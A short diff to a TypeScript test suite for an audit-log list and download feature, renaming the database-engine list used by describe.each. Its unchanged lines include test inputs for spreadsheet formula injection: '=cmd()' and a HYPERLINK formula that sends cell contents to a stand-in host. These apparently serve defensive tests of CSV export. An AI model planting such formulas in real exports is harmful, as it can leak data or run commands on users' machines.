@@ -4,7 +4,7 @@ import { newId } from "@/lib/core/ids";
 import type { Ctx } from "@/lib/ctx/ctx";
 import type { Database } from "@/lib/ctx/database";
 import { testContext } from "@/lib/testing/context";
-import { ENGINES, testDatabase } from "@/lib/testing/database";
+import { EITHER_ENGINE, testDatabase } from "@/lib/testing/database";
 import { downloadAudit } from "./download-audit";
 import { listAudit } from "./list-audit";
 
@@ -14,7 +14,7 @@ const FIRST = Date.parse("2026-11-01T00:00:00Z");
 /** By the number of their line: a library's own guard passes one with a line break by. */
 const FORMULAS = [undefined, "=cmd()", '=HYPERLINK("http://x/"&A1,\n"k")'];
 
-describe.each(ENGINES)("the audit log on %s", (engine) => {
+describe.each(EITHER_ENGINE)("the audit log on %s", (engine) => {
   let database: Database;
   let ctx: Ctx;
   beforeAll(async () => {
